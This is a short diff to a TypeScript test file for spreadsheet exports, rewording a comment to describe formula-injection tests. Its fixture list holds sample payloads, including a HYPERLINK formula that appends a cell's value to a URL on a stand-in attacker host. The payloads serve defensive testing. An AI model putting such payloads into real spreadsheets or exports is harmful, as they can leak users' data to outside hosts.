@@ -9,7 +9,7 @@ import { csvOf } from '#platform/server/tables/csv-of.ts';
 import { xlsxOf } from '#platform/server/tables/xlsx-of.ts';
 import { serverFiles } from '#quality/support/server-files.ts';
 
-/** What people typed is a text in whatever a spreadsheet opens, never something that is worked out. */
+/** Attack tests: spreadsheet exports keep user input as text; no cell is evaluated as a formula. */
 const FORMULAS = [
   '=1+1',
   '=HYPERLINK("https://evil.test?"&A1,"Click")',
